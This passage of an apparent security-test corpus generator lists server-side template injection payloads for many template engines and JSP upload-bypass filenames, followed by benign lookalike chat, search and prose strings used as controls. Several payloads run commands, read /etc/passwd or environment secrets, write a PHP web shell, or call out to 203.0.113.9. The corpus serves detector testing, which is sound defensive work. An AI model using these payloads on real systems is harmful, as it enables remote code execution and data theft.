    ("a.jsp;.png", "multipart-filename", "rs-multipart-filename"),
    ("a.jsp\x00.jpg", "multipart-filename", "rs-multipart-filename"),
    ("a.jsp::$DATA", "multipart-filename", "rs-multipart-filename"),
    ("a.jsp ", "multipart-filename", "rs-multipart-filename"),
    ("filename*=UTF-8''s.jsp", "multipart-filename", "rs-multipart-filename"),
    ("..%2f..%2fwebapps%2fROOT%2fx.jsp", "multipart-filename", "rs-multipart-filename"),
    ("avatar.png.jsp", "multipart-filename", "rs-multipart-filename"),
    ("s.jspf", "multipart-filename", "rs-multipart-filename"),
    ("x.jsp", "header:X-File-Name", "rs-multipart-filename"),
]

# --- ssti --------------------------------------------------------------------------------------------------------
# Jinja2 3.x (Flask)
JINJA2: list[Entry] = [
    "{{cycler.__init__.__globals__.os.popen('id').read()}}",
    "{{joiner.__init__.__globals__.os.popen('id').read()}}",
    "{{namespace.__init__.__globals__.os.popen('id').read()}}",
    "{{lipsum.__globals__['os'].popen('id').read()}}",
    "{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "{{config.__class__.from_envvar.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    r"{{()|attr('\x5f\x5fclass\x5f\x5f')|attr('\x5f\x5fbase\x5f\x5f')|attr('\x5f\x5fsubclasses\x5f\x5f')()}}",
    "{%if cycler.__init__.__globals__.os.popen('curl 203.0.113.9')%}{%endif%}",
    "{{url_for.__globals__.os.environ}}",
    "{{get_flashed_messages.__globals__.__builtins__.open('/etc/passwd').read()}}",
    "{{7*'7'}}",
]
# Twig 1-3 (Symfony)
TWIG: list[Entry] = [
    "{{['id']|filter('system')}}",
    "{{['id']|map('passthru')}}",
    "{{[0]|reduce('system','id')}}",
    "{{['id',0]|sort('system')}}",
    "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}",
    "{{_self.env.setCache('ftp://203.0.113.9:2121')}}{{_self.env.loadTemplate('backdoor')}}",
    "{{app.request.server.all|join(',')}}",
    "{{'/etc/passwd'|file_excerpt(1,30)}}",
    "{%set a='system'%}{{['id']|map(a)}}",
    "{{include(template_from_string(\"{{['id']|filter('system')}}\"))}}",
    "{{['cat /etc/passwd']|filter('shell_exec')|join}}",
    "{{_self.env.enableDebug()}}{{_self.env.isDebug()}}",
]
FM_EXEC = "freemarker.template.utility.Execute"
FM_OBJ = "freemarker.template.utility.ObjectConstructor"
# FreeMarker 2.3
FREEMARKER: list[Entry] = [
    f'${{"{FM_EXEC}"?new()("id")}}',
    f'<#assign ob="{FM_OBJ}"?new()>${{ob("java.lang.ProcessBuilder","id").start()}}',
    '<#assign js="freemarker.template.utility.JythonRuntime"?new()><@js>import os;os.system("id")</@js>',
    "${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd')"
    ".toURL().openStream().readAllBytes()?join(' ')}",
    f"[#ftl][#assign e='{FM_EXEC}'?new()]${{e('id')}}",
    f"<#attempt>${{'{FM_EXEC}'?new()('id')}}<#recover>x</#attempt>",
    f'<#list "id"?split(",") as c>${{"{FM_EXEC}"?new()(c)}}</#list>',
    "${object.class.protectionDomain.classLoader.loadClass('" + FM_EXEC + "')}",
    "${.data_model?keys?join(',')}",
    "#{7*7}",
    f"<#assign x='{FM_EXEC}'?new()/>${{x('cat /etc/passwd')}}",
    "${.now?api.getClass().forName('java.lang.Runtime')}",
]
VEL_RT = "$x.class.forName('java.lang.Runtime')"
# Apache Velocity 1.7 / 2.x (with and without VelocityTools)
VELOCITY: list[Entry] = [
    "#set($e=\"\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null)"
    ".exec(\"id\")",
    "#set($x='')#set($rt=" + VEL_RT + ")#set($p=$rt.getRuntime().exec('id'))$p.waitFor()",
    "$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\")",
    "#set($x='')${x.class.forName('java.lang.ProcessBuilder')}",
    "#{set}($a='')$a.class.forName('java.lang.Runtime').getRuntime().exec('id')",
    "#evaluate(\"#set($x='')" + VEL_RT + ".getRuntime().exec('id')\")",
    "#include(\"/etc/passwd\")",
    "#parse(\"/etc/passwd\")",
    "#set($x='')$!{x.class.forName(\"java.lang.Runtime\").getRuntime().exec(\"id\")}",
    "#set($s=$class.inspect(\"java.lang.System\").type)$s.getenv()",
    "#foreach($i in [1..1])#set($x='')" + VEL_RT + ".getRuntime().exec('id')#end",
    "#set($x=$request.getClass().getClassLoader())$x",
]
# Thymeleaf 3 (Spring MVC view names and attributes)
THYMELEAF: list[Entry] = [
    "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec(\"id\").getInputStream()).next()}__::.x",
    "*{T(java.lang.Runtime).getRuntime().exec('id')}",
    "[[${T(java.lang.Runtime).getRuntime().exec('id')}]]",
    "[(${new java.lang.ProcessBuilder('id').start()})]",
    "__${T (java.lang.Runtime).getRuntime().exec('id')}__::.x",
    "~{__${T(java.lang.Runtime).getRuntime().exec(\"id\")}__::x}",
    "${@java.lang.Runtime@getRuntime().exec('id')}",
    "__${#response.getWriter().print(T(java.lang.System).getenv())}__::.x",
    "${T(org.springframework.util.StreamUtils).copyToString(T(java.lang.Runtime).getRuntime().exec(\"id\")"
    ".getInputStream(),T(java.nio.charset.Charset).forName(\"UTF-8\"))}",
    "th:text=\"${T(java.lang.Runtime).getRuntime().exec('id')}\"",
    "__${''.getClass().forName('java.lang.Runtime')}__::.x",
    "__|$${T(java.lang.Runtime).getRuntime().exec('id')}|__::.x",
]
# ERB (Ruby 3, Rails 7 / erubi)
ERB: list[Entry] = [
    "<%= %x(id) %>",
    "<%= IO.popen('id').readlines() %>",
    "<%= system('id') %>",
    "<%= File.open('/etc/passwd').read %>",
    "<%= Dir.entries('/') %>",
    "<%= require 'open3'; Open3.capture2('id')[0] %>",
    "<% exec 'id' %>",
    "<%== `id` %>",
    "<%= Kernel.send(:`, 'id') %>",
    "<%=`id`%>",
    "<%= ENV.to_h %>",
    "<%= Object.const_get('IO').popen('id').read %>",
]
# Smarty 2-4
SMARTY: list[Entry] = [
    "{'id'|system}",
    "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['c']); ?>\",self::clearConfig())}",
    "{php}echo `id`;{/php}",
    "{$smarty.version}",
    "{include file='file:/etc/passwd'}",
    "{fetch file='file:///etc/passwd'}",
    "{self::getStreamVariable(\"file:///etc/passwd\")}",
    "{if system('id')}{/if}",
    "{eval var=\"{system('id')}\"}",
    r'{math equation="(\"\163\171\163\164\145\155\")(\"\151\144\")"}',
    "{$smarty.env.PATH}",
    "{/literal}{passthru('id')}",
]
HB_CODE = "return process.mainModule.require('child_process').execSync('id');"
# Handlebars (Node.js, before the prototype-access fixes)
HANDLEBARS: list[Entry] = [
    '{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub '
    '"constructor")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push "' + HB_CODE + '"}}{{th'
    'is.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{'
    '/with}}{{/with}}',
    '{{~#with "s" as |s|~}}{{~#with "e"~}}{{~#with split as |c|~}}{{this.pop}}{{this.push (lookup s.sub "constructor'
    '")}}{{this.pop}}{{~#with s.split as |d|~}}{{this.pop}}{{this.push "return process.env;"}}{{this.pop}}{{#each c}}'
    '{{#with (s.sub.apply 0 d)}}{{this}}{{/with}}{{/each}}{{~/with~}}{{~/with~}}{{~/with~}}{{~/with~}}',
    '{{#with (lookup (lookup this "constructor") "constructor") as |F|}}{{F.name}}{{/with}}',
    '{{lookup (lookup this "constructor") "name"}}',
    '{{#each (lookup this "__proto__")}}{{@key}}{{/each}}',
    '{{#with this as |o|}}{{o.constructor.constructor}}{{/with}}',
    '{{{lookup (lookup "" "constructor") "constructor"}}}',
    '{{@root.constructor.name}}',
    '{{> (lookup . "partial") }}',
    '{{#with "x" as |s|}}{{#with (s.sub.apply 0 (s.split "r"))}}{{this}}{{/with}}{{/with}}',
    '{{#blockHelperMissing "constructor"}}{{this}}{{/blockHelperMissing}}',
    '{{#each this}}{{@key}}={{this}} {{/each}}',
]
# Pug 2-3 (Node.js)
PUG: list[Entry] = [
    "#{root.process.mainModule.require('child_process').spawnSync('id').stdout}",
    "- global.process.mainModule.require('child_process').execSync('id')",
    "= process.mainModule.require('child_process').execSync('id')",
    "!= global.process.mainModule.require('child_process').execSync('id')",
    "p #{global.process.mainModule.constructor._load('child_process').execSync('id')}",
    "#{function(){localLoad=global.process.mainModule.constructor._load;"
    "sh=localLoad('child_process').exec('curl 203.0.113.9')}()}",
    "!{process.env}",
    "#[p= process.pid]",
    "include /etc/passwd",
    "each v, k in process.env\n  p= k",
    "- var e=eval; e('process.exit()')",
    "a(href=process.mainModule.require('child_process').execSync('id'))",
]
# Mako 1.x (Pylons, Pyramid)
MAKO: list[Entry] = [
    "${self.module.cache.util.os.system('id')}",
    "<% import os; x=os.popen('id').read() %>${x}",
    "${self.module.runtime.util.os.system('id')}",
    "<%! import os %>${os.popen('id').read()}",
    "${__import__('os').popen('id').read()}",
    "% for x in __import__('os').popen('id'):\n${x}\n% endfor",
    "<%include file=\"/etc/passwd\"/>",
    "${local.module.cache.util.os.popen('id').read()}",
    "${(lambda: __import__('subprocess').check_output(['id']))()}",
    "<% __import__('os').system('id') %>",
    "${context.keys()}",
    "<%namespace file=\"/etc/passwd\" import=\"*\"/>",
]
# Tornado 6 templates
TORNADO: list[Entry] = [
    "{% import os %}{{ os.popen('id').read() }}",
    "{% import subprocess %}{{ subprocess.check_output(['id']) }}",
    "{{__import__('os').popen('id').read()}}",
    "{% raw __import__('os').system('id') %}",
    "{% apply __import__('os').system %}id{% end %}",
    "{{handler.settings}}",
    "{% set x = __import__('os').popen('id').read() %}{{x}}",
    "{% include \"/etc/passwd\" %}",
    "{% extends \"/etc/passwd\" %}",
    "{{handler.application.settings['cookie_secret']}}",
    "{% from os import popen %}{{popen('id').read()}}",
    "{% autoescape None %}{{ __import__('os').environ }}",
]
# Nunjucks 3 (Node.js)
NUNJUCKS: list[Entry] = [
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
    "{{cycler.constructor('return process')().mainModule.require('child_process').execSync('id')}}",
    "{{joiner.constructor('return process.env')()}}",
    "{{''.constructor.constructor('return process')().exit()}}",
    "{{[].constructor.constructor(\"return this\")().process.mainModule.require(\"child_process\")"
    ".execSync(\"id\")}}",
    "{%set x=range.constructor('return process')()%}{{x.pid}}",
    "{{ (range.constructor)('return process.exit()')() }}",
    "{%- set p = cycler.constructor('return process')() -%}{{ p.env | dump }}",
    "{{range.constructor('return require')()}}",
    "{% for k in range.constructor('return Object.keys(process.env)')() %}{{k}}{% endfor %}",
    "{{joiner.constructor`return process```.version}}",
    "{{range.constructor('return this')().process.binding('spawn_sync')}}",
]
# EJS 3 (Node.js, Express)
EJS: list[Entry] = [
    "<%= process.mainModule.require('child_process').execSync('id') %>",
    "<%- global.process.mainModule.require('child_process').execSync('id') %>",
    "<%_ process.mainModule.constructor._load('child_process').execSync('id') _%>",
    "<%- include('/etc/passwd') %>",
    "<%= this.constructor.constructor('return process')().env %>",
    "<%= global.process.env %>",
    "<%=process.pid%>",
    "<% process.mainModule.require('child_process').exec('curl 203.0.113.9') %>",
    "<%# x %><%- process.mainModule.require('fs').readFileSync('/etc/passwd') %>",
    "<%= Object.keys(process.env).join() %>",
    "<%- (function(){return process})().exit() -%>",
    "<%= [].constructor.constructor('return process')().version %>",
]
# Pebble 3 (Java)
PEBBLE: list[Entry] = [
    "{% set cmd = 'id' %}{% set bytes = (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null)"
    ".exec(cmd).inputStream.readAllBytes() %}{{ (1).TYPE.forName('java.lang.String').constructors[0]"
    ".newInstance(([bytes]).toArray()) }}",
    "{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('id') }}",
    "{{ (1).TYPE.forName('java.lang.ProcessBuilder') }}",
    "{% set rt = (1).TYPE.forName('java.lang.Runtime') %}{{ rt }}",
    "{{ ''.class.forName('java.lang.System').getenv() }}",
    "{{ beans }}",
    "{{ request.servletContext.classLoader }}",
    "{% include '/etc/passwd' %}",
    "{{ (1).TYPE.forName('java.lang.Runtime').getMethods() }}",
    "{{ response.getWriter().print('x') }}",
    "{{ (1).TYPE.forName('java.lang.Thread').sleep(10000) }}",
    "{{ 'a'.getClass().getProtectionDomain().getCodeSource().getLocation() }}",
]
# Razor (RazorEngine / ASP.NET)
RAZOR: list[Entry] = [
    "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")",
    "@{System.Diagnostics.Process.Start(\"cmd.exe\",\"/c ping 203.0.113.9\");}",
    "@System.IO.File.ReadAllText(\"C:\\\\Windows\\\\win.ini\")",
    "@(new System.Net.WebClient().DownloadString(\"http://203.0.113.9/x\"))",
    "@System.IO.Directory.GetFiles(\"C:\\\\\")",
    "@System.Environment.GetEnvironmentVariables()",
    "@System.Environment.MachineName",
    "@System.AppDomain.CurrentDomain.BaseDirectory",
    "@System.Diagnostics.Process.GetCurrentProcess().Kill()",
    "@Html.Raw(System.IO.File.ReadAllText(\"/etc/passwd\"))",
    "@{ var p = new System.Diagnostics.Process(); p.StartInfo.FileName = \"cmd.exe\"; p.Start(); }",
    "@(1337*1337)",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("generic", "nodejs-injection-attack", NODE_1),
    ("generic", "nodejs-injection-attack-2-2", NODE_2),
    ("generic", "ssrf-cloud-metadata-url", SSRF_METADATA),
    ("generic", "ssrf-url-ip-address", SSRF_IP),
    ("generic", "javascript-prototype-pollution", POLLUTION),
    ("generic", "ruby-injection-attack", RUBY),
    ("generic", "perl-injection-attack", PERL),
    ("generic", "nodejs-dos-attack", NODE_DOS),
    ("generic", "php-data-scheme-attack", PHP_DATA),
    ("java", "rce-suspicious-java-class", JAVA_RCE_CLASS),
    ("java", "java-process-spawn", JAVA_SPAWN),
    ("java", "java-serialization-rce", JAVA_SER_RCE),
    ("java", "suspicious-java-class", JAVA_CLASS),
    ("java", "java-magic-bytes", JAVA_MAGIC),
    ("java", "java-magic-bytes-base64", JAVA_MAGIC_B64),
    ("java", "java-serialization-gadget", JAVA_GADGET),
    ("java", "suspicious-java-method", JAVA_METHOD),
    ("java", "log4j-log4shell", LOG4J),
    ("java", "malicious-class-loading", CLASS_LOADING),
    ("java", "java-script-file-upload", JSP_UPLOAD),
    ("ssti", "jinja2", JINJA2),
    ("ssti", "twig", TWIG),
    ("ssti", "freemarker", FREEMARKER),
    ("ssti", "velocity", VELOCITY),
    ("ssti", "thymeleaf", THYMELEAF),
    ("ssti", "erb", ERB),
    ("ssti", "smarty", SMARTY),
    ("ssti", "handlebars", HANDLEBARS),
    ("ssti", "pug", PUG),
    ("ssti", "mako", MAKO),
    ("ssti", "tornado", TORNADO),
    ("ssti", "nunjucks", NUNJUCKS),
    ("ssti", "ejs", EJS),
    ("ssti", "pebble", PEBBLE),
    ("ssti", "razor", RAZOR),
]
# raw serialization streams: only URL-encoded carriers can take their bytes
# parameter binding and pollution written as `name=value`, sent unquoted where they name the place
RAW_KV_SUBS = {"javascript-prototype-pollution", "malicious-class-loading"}
SUB_CYCLES = {"java-magic-bytes": (["query", "form", "param-name"], ["rs-query", "rs-form", "rs-raw-body"])}
LATIN1_SUBS = {"java-magic-bytes"}

# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    raw_subs = RAW_KV_SUBS
    names = ["q", "filter", "name", "template", "url", "callback", "data", "sort", "message"]
    upload = JSP_BODY
    documents = True   # XStream, XMLDecoder, SOAP and MLet payloads are the document

    def cycles(self, category: str, sub: str, payload: str) -> Cycles:
        return SUB_CYCLES.get(sub, (self.real_cycle, self.rs_cycle))

    def is_latin(self, sub: str, payload: str) -> bool:
        return sub in LATIN1_SUBS


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently (Slack chat and bios, searches, admin notes, links, profiles, uploads)
CHAT = [
    # Node.js
    "we moved off child_process.exec to execFile in the build script, safer quoting",
    "does anyone know if require('node:fs') works on Node 16? the node: prefix broke our jest setup",
    "the worker_threads pool now handles thumbnail resizing, CPU usage down 30%",
    "reminder: process.env is read once in config.ts, restart the pod after changing secrets",
    "the inspector port 9229 is only open in the dev compose file, not in prod",
    "node-serialize is gone from package.json, we use plain JSON now",
    "vm.runInNewContext is NOT a sandbox, the docs say so in bold",
    "Function.prototype.bind vs arrow functions: talk notes in the drive",
    "dynamic import() returns a promise, so wrap it in an async function",
    "our eslint config bans eval and new Function, PRs with them fail CI",
    "process.exit(1) in the CLI when the config file is missing is fine",
    "the spawnSync call in the migration tool should pass shell: false",
    "Buffer.from(str, 'base64') is the replacement for the deprecated Buffer() constructor",
    "globalThis works in browsers and node, use it instead of window",
    "Reflect.apply is handy in the proxy handler, see the PR description",
    # DoS / loops
    "the for(;;) loop in the poller has a sleep now, CPU went back to normal",
    "a while(true) in a request handler will block the event loop, use setImmediate",
    "the regex for emails had catastrophic backtracking, replaced with a simple check",
    "Atomics.wait is not allowed on the main thread in browsers, only in workers",
    "'-'.repeat(40) draws the divider in the CLI output",
    "we cap uploads with Buffer.alloc limits so nobody can allocate 2GB",
    # SSRF / metadata / IPs
    "the EC2 instance metadata service v2 is enforced on all our launch templates now",
    "GKE workload identity means pods no longer read the metadata server directly",
    "Azure instance metadata needs the Metadata: true header, that's why the script failed",
    "internal services live on 10.0.0.0/8, the VPN gives you a 10.8.x.x address",
    "the docker daemon socket is not exposed on tcp 2375, only the unix socket",
    "redis runs on port 6379 inside the cluster, memcached on 11211",
    "localhost:8080 is the API and localhost:3000 the web app in dev",
    "the printer on the 3rd floor is at 192.168.1.50 if you need to add it manually",
    "IPv6 is enabled on the new VPC, addresses look like 2001:db8::1 in the docs",
    "we block link-local addresses in the webhook fetcher, there is a unit test for it",
    "the ECS task role credentials come from the agent, no access keys in env vars",
    # prototype pollution
    "the prototype chain in JS is explained well in chapter 6 of the book",
    "lodash 4.17.21 fixed the set/merge prototype pollution issues, we're on it",
    "the constructor of the User class validates the email now",
    "Object.create(null) for maps keyed by user input, no prototype there",
    "qs has allowPrototypes false by default, don't turn it on",
    # Ruby / Perl
    "Open3.capture2 is what we use in the rake task to call git",
    "the Ruby upgrade to 3.3 broke a Kernel#open call that read a URL, fixed",
    "YAML.safe_load everywhere in the rails app, YAML.load is banned by rubocop",
    "ERB templates for the emails live in app/views/mailers",
    "the perl script that rotates logs uses open with three args now",
    "qx and backticks in the old perl cron job were replaced by IPC::Run",
    "perl -ne is still the fastest way to grep these logs honestly",
    "instance_eval in the DSL is fine, it's our own config files",
    # PHP data
    "the data: URLs for the small icons are inlined by webpack under 4kb",
    "php 8.3 upgrade done, allow_url_include stays Off",
    "a data URI like data:image/png;base64,iVBORw0KGgo is fine for the favicon",
    "include_path for the legacy wiki is /usr/share/php, don't touch it",
    # Java
    "Runtime.getRuntime().availableProcessors() returns the container CPU limit on Java 17",
    "ProcessBuilder with inheritIO is what the CLI uses to run git",
    "the java.lang.Process API got ProcessHandle in Java 9, nice for pids",
    "we use Jackson with default typing OFF, please keep it that way",
    "the log4j2 upgrade to 2.23 is merged, lookups in messages are disabled anyway",
    "XStream was removed from the importer, we parse the XML with JAXB",
    "the class loader leak in Tomcat shows up after 20 redeploys, restart fixes it",
    "Spring Boot 3.2 needs Java 17, the CI image is updated",
    "MethodHandles are faster than reflection for the hot path, benchmark in the PR",
    "the Unsafe warnings come from netty, ignore them",
    "commons-collections 3.2.2 is the minimum, dependabot bumped it",
    "ObjectInputStream is only used in the legacy cache, and it has a filter now",
    "fastjson is not on our classpath, we use Jackson only",
    "JNDI datasource config is in context.xml for the legacy app",
    "the JSP pages in the admin module are being rewritten in Thymeleaf",
    "the upload page rejects .jsp and .war files, only images and PDFs",
    "JShell is great for trying out the new String methods",
    "the InitialContext lookup for the datasource is in the Spring config",
    "TemplatesImpl showed up in a CVE writeup we read, not in our code",
    "SpEL expressions in @Value annotations only, never from user input",
    "OGNL is a Struts thing, we don't use Struts anymore",
    "the GraalVM native image build needs reflection config for Jackson",
    "the jar is signed, the class files start with CAFEBABE as usual",
    # serialization words
    "the session cookie is a signed JWT, not a serialized Java object",
    "rO0 at the start of a base64 blob usually means Java serialization, fun fact from the security training",
    "ViewState in the old JSF app is encrypted server side",
    # templates
    "Hello {{ user.first_name }}, your order {{ order.id }} has shipped",
    "in Jinja you loop with {% for item in items %} and close with {% endfor %}",
    "the Twig filter |date('Y-m-d') formats the timestamp in the footer",
    "FreeMarker uses ${name} for interpolation and <#if> for conditions",
    "Velocity templates: $customer.name and #if($vip) in the email footer",
    "Thymeleaf th:text=\"${user.name}\" escapes by default, th:utext doesn't",
    "ERB: <%= @user.name %> prints, <% %> doesn't",
    "Smarty {$title} in the header template, {include file='footer.tpl'} at the bottom",
    "Handlebars {{#each items}}{{name}}{{/each}} renders the list",
    "Pug indentation errors again, tabs vs spaces in the layout file",
    "Mako ${name} and <%include file='header.html'/> in the old Pyramid app",
    "Tornado templates use {% for %} and {{ }} just like Jinja, almost",
    "Nunjucks {{ range(1, 5) }} is handy for the pagination",
    "EJS <%= title %> in views/index.ejs, <%- include('partials/nav') %> for the nav",
    "Pebble templates in the Java service use {{ user.name | upper }}",
    "Razor @Model.Name and @foreach in the .NET admin pages",
    "the placeholder ${amount} in the invoice template is filled by the billing service",
    "Liquid {{ product.title }} in the Shopify theme, not our codebase",
    # general
    "the import job runs nightly at 02:00 UTC, ping me if it fails",
    "the system tests pass on staging, exec summary goes out Friday",
    "cost per request is $0.0002 so a million requests is $200",
    "meeting moved to room 127, second floor",
    "the metadata for the podcast episodes is in the CMS now",
    "please review the process doc for onboarding before Monday",
    "the template for the weekly report is in the shared drive",
    "the class schedule for the Java course is on the wiki",
    "the Ruby meetup is on Thursday, pizza provided",
    "Perl Mongers still meet once a month downtown",
    "I'll spawn a new thread in #eng for the outage follow-up",
    "can someone load the new fixtures into staging?",
    "the constructor crew fixed the office door today",
    "the data scheme for the analytics warehouse is documented in dbt",
    "the gadget store order with the USB-C hubs arrived",
    "the prototype of the new onboarding flow is in Figma",
    "our magic link login emails are delayed, the mail provider is slow",
    "spring cleaning of the backlog on Friday, bring coffee",
    "there's a bundle of stickers at the front desk",
    "the cycle time report for the sprint is ready",
    "the lipsum text in the mockups needs to be replaced before launch",
    "the namespace for the new service is payments-v2 in the cluster",
    "the joiner form for new hires is in BambooHR",
    "the include list for the release notes is in the PR",
    "the filter on the dashboard resets when you reload",
    "the reduce step in the pipeline sums the invoices per customer",
    "sort the table by date then by name please",
    "the map view in the app shows stores near you",
    "the evaluate step of the model training takes 3 hours",
    "the parse error in the CSV import came from a stray quote",
    "the fetch of the exchange rates runs every hour",
    "the Dir listing in the file browser is slow for big folders",
    "the attempt counter for logins resets after 15 minutes",
    "the apply button on the settings page is greyed out until you change something",
    "the raw export of the logs is 40GB, use the filtered one",
    "extends our contract for another year, legal is reviewing",
    "the lookup table for country codes is in the seeds file",
    "the partial refund went through this morning",
    "the handler for the webhook retries three times",
    "the cookie banner text was updated by legal",
    "the env file for local dev is in 1Password",
    "the range of the slider is 1 to 100",
    "the spawn point in the game demo is near the river, lol",
    "the locale files for pt-BR are merged",
    "the session timeout is 30 minutes of inactivity",
    "the bean counters want the Q3 numbers by Friday (kidding, finance team)",
    "my kid's science fair project was a potato battery, it worked",
    "the new espresso machine needs descaling every two weeks",
    "the pipeline for the iOS build is green again",
    "the payload size limit for webhooks is 1MB",
    "the callback URL for the OAuth app is https://app.example.com/auth/callback",
    "the upload of the quarterly report PDF failed, trying again",
    "the shell script for backups runs as the backup user",
    "the exec team offsite is in Lisbon this year",
    "the runtime of the nightly job went from 40 to 12 minutes",
    "the loader animation on the dashboard is too slow",
    "the builder pattern in the SDK makes the config readable",
    "the java version on the build agents is 21 now",
    "the process for expense reports changed, see the email from finance",
    "the constructor injection in the service layer is cleaner than field injection",
    "the classloader docs for Tomcat explain the webapp vs common loaders",
    "the jndi name of the datasource is java:comp/env/jdbc/main",
    "the log line shows ${user} literally because the formatter isn't applied",
    "the Ruby script prints a warning about the deprecated URI.escape",
    "Perl's open with '-|' is the list form, no shell involved",
    "the ping to 8.8.8.8 works from the bastion, DNS is the problem",
    "the gopher protocol is a fun bit of internet history",
    "file:// links don't open from the browser for security reasons",
    "the instance type is m6i.large, the metadata tags show the team",
    "127.0.0.1 vs localhost resolved differently on the IPv6-only runner",
    "0.0.0.0 binding in the dev server is what lets your phone reach it",
    "while testing, set the timeout to 0 to disable it",
    "a for loop with no condition looks odd but it's the Go idiom for forever",
    "the DoS protection at the CDN rate limits by IP",
    "the ReDoS check in CI flags nested quantifiers now",
]
SEARCHES = [
    "child process", "require", "node", "process manager", "constructor", "prototype", "metadata", "instance data",
    "google cloud", "azure", "openstack", "alibaba", "oracle cloud", "digitalocean", "ecs task", "localhost",
    "127.0.0.1", "10.0.0.1", "192.168.1.1", "ipv6", "fd00", "gopher", "dict", "ruby", "open3", "kernel", "perl",
    "readpipe", "exec", "system", "spawn", "fork", "while true", "for loop", "infinite scroll", "repeat",
    "atomics", "buffer", "data scheme", "data uri", "base64", "php", "compress", "filter", "java", "runtime",
    "processbuilder", "process builder", "class loader", "classloader", "jndi", "ldap", "rmi", "dns", "log4j",
    "lookup", "spring", "struts", "ognl", "spel", "thymeleaf", "freemarker", "velocity", "jinja", "twig", "smarty",
    "handlebars", "pug", "mako", "tornado", "nunjucks", "ejs", "pebble", "razor", "erb", "template",
    "jsp", "jspx", "upload", "file upload", "serialization", "deserialization", "magic bytes", "rO0",
    "commons collections", "xstream", "xmldecoder", "filewriter", "getproperty", "invoker", "transformer",
    "closure", "factory", "clone", "method", "reflection", "unsafe", "thread", "sleep", "halt", "load",
    "Anna Runtime", "Bob Spawn", "Java Smith", "Ruby Rose", "Perl Jam", "Constructor Ltd", "Prototype Labs",
    "O'Neil", "Mc Donald", "José", "Zoë", "São Paulo", "Zürich", "data@example.org", "eval",
    "cycler", "joiner", "namespace", "lipsum", "config", "request", "self", "cache", "module", "env",
    "include", "extends", "raw", "apply", "set", "import", "attempt", "recover", "assign", "list",
]
PROSE = [
    "The runtime of the import process was 12 minutes; please keep an eye on it.",
    "Customer asked whether we store data in the EU. We do (Frankfurt region).",
    "Ruby on Rails app migration is planned for Q3, Java services stay as they are.",
    "Perl scripts in /opt/legacy will be retired after the migration.",
    "User reported that the upload of a .docx failed; it worked after retry.",
    "Template for the welcome email: Hello {{name}}, welcome to {{team}}!",
    "Invoice template uses ${amount} and ${currency}; both are filled server side.",
    "The class roster for the Java training is attached.",
    "Please process the refund for order 42 and notify the customer.",
    "Constructor Ltd., 10 Prototype Lane, Springfield",
    "Metadata for the uploaded photos includes the GPS location; strip it.",
    "The local IP of the office router is 192.168.0.1 in case IT asks.",
    "Cloud bill: AWS $1,240, GCP $310, Azure $95 for March.",
    "While true to our values, we had to cut the budget this quarter.",
    "For loop-back testing, use the staging webhook URL.",
    "The data scheme for exports changed: dates are ISO 8601 now.",
    "Spring sale campaign starts Monday; Log banners are ready.",
    "The lookup of the customer by email returned two accounts; merged.",
    "Class loading issue on the build server fixed by clearing the Gradle cache.",
    "Magic bytes of the uploaded file say PNG although the name says .jpg.",
    "Serialization format for the events is JSON, not Java serialization.",
    "The JSP admin pages will be replaced in the next release.",
    "Thymeleaf, FreeMarker and Velocity were compared; we chose Thymeleaf.",
    "Jinja2 templates render the reports; Twig is used by the marketing site.",
    "ERB is used for the mailers; Smarty only in the old PHP shop.",
    "Handlebars and Pug are both used in the frontend playground.",
    "Mako templates render the legacy Pyramid admin.",
    "Tornado serves the websocket gateway; its templates are unused.",
    "Nunjucks builds the static docs site; EJS renders the status page.",
    "Pebble is used in the Java reporting service.",
    "Razor views in the .NET billing portal need translations.",
    "The Node.js service restarts automatically if the process exits.",
    "The denial of service test at the CDN was scheduled with the provider.",
    "Prototype pollution was covered in the security training on Tuesday.",
    "The SSRF protection blocks private ranges in the webhook fetcher.",
    "JNDI lookups are disabled in all Log4j configurations.",
    "Deserialization filters were added to the legacy cache service.",
    "The reflection-based mapper was replaced with MapStruct.",
    "Thread dumps from the incident are attached to the ticket.",
    "The Unsafe usage warning comes from a third-party library.",
    "The ProcessBuilder call in the CLI uses a fixed argument list.",
    "The class path of the batch job includes the commons-collections 3.2.2 jar.",
    "XStream allowlist configuration is documented in the wiki.",
    "The file writer in the export job writes to /var/exports only.",
    "The system property user.timezone is set to UTC on all JVMs.",
    "The invoker service handles the payment callbacks.",
    "The transformer step in the ETL normalises phone numbers.",
    "The factory reset of the test device wiped the logs.",
    "Clone the repo and run make test before the meeting.",
    "The method for calculating VAT changed in January.",
    "The instance data in the spreadsheet is out of date.",
    "The Google Cloud project for analytics is analytics-prod.",
    "The Azure subscription is owned by the finance team.",
    "The Oracle contract renewal is due in June.",
    "The DigitalOcean droplet for the blog was shut down.",
    "The Alibaba supplier sent the new price list.",
    "Tencent meeting links don't work from the office network.",
    "The ECS cluster runs the batch jobs at night.",
    "The IPv6 rollout is done for the public endpoints.",
    "The Docker registry moved to a new host.",
    "The gopher hole of the retro computing club is back online.",
    "Memcached was replaced by Redis last year.",
    "The compression level for the archives is 6.",
    "PHP filter extension validates the emails in the old shop.",
    "Data: 3 files attached, total 2 MB.",
    "Ruby's birthday is on Friday; cake in the kitchen.",
